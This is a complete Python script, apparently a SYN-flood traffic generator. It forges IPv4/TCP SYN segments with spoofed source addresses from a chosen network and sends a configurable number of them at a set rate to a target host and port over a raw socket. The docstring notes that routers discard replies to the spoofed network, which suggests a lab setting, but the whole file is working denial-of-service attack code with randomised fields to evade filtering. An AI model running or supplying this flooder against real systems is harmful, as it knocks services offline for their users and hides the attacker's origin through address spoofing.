"""SYN segments from forged sources: syn_flood.py ADDRESS PORT COUNT RATE SPOOFED_NET SEED.

SPOOFED_NET is the first three bytes ("10.1.2"); the routers discard answers to it.
"""

import random
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def segment(rng, source, target, port):
    """IPv4 + TCP SYN with a maximum segment size option."""
    head = struct.pack(">HHIIBBHHH4s", rng.randrange(1024, 65536), port, rng.getrandbits(32), 0, 0x60,
                       2, rng.choice((512, 8192, 64240)), 0, 0, struct.pack(">BBH", 2, 4, 1460))
    pseudo = source + target + struct.pack(">BBH", 0, 6, len(head))
    head = head[:16] + struct.pack(">H", checksum(pseudo + head)) + head[18:]
    return struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(head), rng.getrandbits(16), 0,
                       rng.choice((64, 128)), 6, 0, source, target) + head


def main():
    address, port, count, rate, net, seed = sys.argv[1:]
    rng, target = random.Random(int(seed)), socket.inet_aton(address)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for _ in range(int(count)):
            source = socket.inet_aton(f"{net}.{rng.randrange(2, 255)}")
            raw.sendto(segment(rng, source, target, int(port)), (address, 0))
            time.sleep(1 / int(rate))


main()
